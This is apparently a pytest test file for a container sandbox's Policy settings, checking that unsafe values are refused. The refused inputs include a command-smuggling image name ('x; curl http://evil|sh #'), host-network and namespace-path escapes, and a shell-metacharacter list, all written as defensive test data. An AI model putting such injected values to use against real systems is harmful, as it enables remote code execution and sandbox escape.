"""The policy: complete, frozen, recorded without loss, and without values that an engine could not enforce."""

import copy
import pickle
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from sandbox import Policy, SettingsError


def test_every_field_says_what_it_means() -> None:
    assert [name for name, field in Policy.model_fields.items() if not (field.description or "").endswith(".")] == []


def test_sizes_are_read_from_text_and_recorded_as_numbers() -> None:
    policy = Policy.model_validate({"memory_bytes": "2g", "tmp_bytes": "64MiB"})
    assert policy.model_dump(include={"memory_bytes", "tmp_bytes"}) == {"memory_bytes": 2 << 30, "tmp_bytes": 64 << 20}


@given(
    st.dictionaries(
        st.from_regex(r"\A[A-Za-z_][A-Za-z0-9_]{0,9}\Z"),
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")),
    )
)
def test_a_recorded_policy_is_read_back_unchanged(environment: dict[str, str]) -> None:
    policy = Policy(environment=environment, memory_bytes=1 << 30, network="bridge")
    assert Policy.model_validate_json(policy.model_dump_json()) == policy
    assert hash(copy.deepcopy(policy)) == hash(pickle.loads(pickle.dumps(policy))) == hash(policy)
    assert policy.model_dump()["environment"] == environment


def test_the_environment_cannot_be_changed_from_outside() -> None:
    variables = {"A": "1"}
    policy = Policy(environment=variables)
    variables["B"] = "2"
    with pytest.raises(TypeError):
        policy.environment["C"] = "3"  # type: ignore[index]
    assert dict(policy.environment) == {"A": "1"}


REFUSED: dict[str, tuple[dict[str, Any], str]] = {
    "a size of another kind": (
        {"memory_bytes": "12x"}, "a size is a number of bytes, or one with a unit, like 512MiB or 2g"),
    "too little memory to start": ({"memory_bytes": "64m"}, "Input should be greater than or equal to 134217728"),
    "a time that never ends": ({"cell_timeout_s": "inf"}, "Input should be a finite number"),
    "less CPU time than an engine counts": ({"cpus": 0.001}, "Input should be greater than or equal to 0.01"),
    "the host's network": (
        {"network": "host"}, "a sandbox shares no network namespace with the host or a container"),
    "another container's network": (
        {"network": "container:web"}, "a sandbox shares no network namespace with the host or a container"),
    "a namespace by its path": (
        {"network": "ns:/proc/1/ns/net"}, "a sandbox shares no network namespace with the host or a container"),
    "no network's name": ({"network": "-"}, "it must be a name that the engine knows"),
    "no runtime's name": ({"runtime": "/bin/sh"}, "it must be a name that the engine knows"),
    "an image that is a command": (
        {"image": "x; curl http://evil|sh #"},
        "it must be the name of an image, like python:3.13 or host/name@sha256:..."),
    "a user by name": ({"user": "root"}, "it must be UID:GID, two numbers of at most 2147483647"),
    "a uid that no engine takes": (
        {"user": "2147483648:0"}, "it must be UID:GID, two numbers of at most 2147483647"),
    "a variable without a name": (
        {"environment": {"": "x"}}, "the name of a variable is letters, digits and _"),
    "a variable that names two": (
        {"environment": {"A=B": "x"}}, "the name of a variable is letters, digits and _"),
    "a value that ends early": (
        {"environment": {"A": "x\0y"}}, "the value of a variable is UTF-8 without NUL"),
    "a value that no file can hold": (
        {"environment": {"A": "\ud800"}}, "the value of a variable is UTF-8 without NUL"),
    "an environment that no process can be given": (
        {"environment": {"A": "x" * 200_000}}, "all variables together take 131072 bytes at most"),
    "a field that does not exist": ({"swap_bytes": 1}, "Extra inputs are not permitted"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_a_value_that_cannot_be_enforced_is_refused(case: str) -> None:
    values, words = REFUSED[case]
    with pytest.raises(ValidationError) as caught:
        Policy.model_validate(values)
    assert [error["msg"] for error in caught.value.errors()] == [words]


DIGEST = "sha256:" + "0a" * 32


@pytest.mark.parametrize(
    "image",
    [
        *("python", "python:3.13-slim", "mine_x:1", "a__b:_T.1-x", "a.b-c--d/e_f", DIGEST, "0123456789ab"),
        *("ghcr.io/owner/name:tag", "localhost:5000/name", "Registry.Example/name", "[::1]:5000/name:1"),
        *(f"name@{DIGEST}", f"localhost:5000/a/b:1@{DIGEST}", "cellblock/python:0123456789ab"),
    ],
)
def test_every_valid_image_name_is_accepted(image: str) -> None:
    assert Policy(image=image).image == image


@pytest.mark.parametrize("mark", " ;|&$`'\"\\<>(){}*?!#~=,\n\r\t\0\x1b\u202e\u00e9%")
@pytest.mark.parametrize("place", range(4))
def test_an_image_with_a_shell_metacharacter_is_refused(mark: str, place: int) -> None:
    parts = ["host.io", "/name", ":tag", f"@{DIGEST}"]
    with pytest.raises(SettingsError, match="it must be the name of an image"):
        Policy(image="".join(parts[: place + 1]) + mark + "".join(parts[place + 1 :]))


@pytest.mark.parametrize("image", ["", "-rm", "--a", "/name", "name/", "a//b", "name:", "name:-x", "a@b", "a" * 513])
def test_an_invalid_image_name_is_refused(image: str) -> None:
    with pytest.raises(SettingsError, match="it must be the name of an image"):
        Policy(image=image)


def test_a_long_image_name_is_refused_in_linear_time() -> None:
    for image in ("a-" * 100_000, "a" * 200_000 + "!", "a/" * 100_000, "a." * 100_000):
        with pytest.raises(SettingsError, match="it must be the name of an image"):
            Policy(image=image)


REFUSED_IN_A_PROGRAM: dict[str, tuple[Callable[[], object], str]] = {
    "a text that is no size": (
        lambda: Policy(memory_bytes="12x"),
        "Policy: memory_bytes cannot be '12x': a size is a number of bytes, or one with a unit, like 512MiB or 2g.",
    ),
    "a size out of its bounds": (
        lambda: Policy(memory_bytes=1), "Policy: memory_bytes cannot be 1: it must be at least 128 MiB."),
    "the flag's name": (
        lambda: Policy(memory="2g"),  # type: ignore[call-arg]
        "Policy has no field 'memory'. Try: Policy(memory_bytes=...)"),
    "a name that nothing is like": (
        lambda: Policy(qqq=1),  # type: ignore[call-arg]
        "Policy has no field 'qqq'."),
    "a number that is none": (
        lambda: Policy(cpus=float("nan")), "Policy: cpus cannot be nan: input should be a finite number."),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED_IN_A_PROGRAM)
def test_a_bad_value_in_a_program_is_one_line(case: str) -> None:
    make, line = REFUSED_IN_A_PROGRAM[case]
    with pytest.raises(SettingsError) as caught:
        make()
    assert str(caught.value) == line
    assert isinstance(caught.value, ValueError)
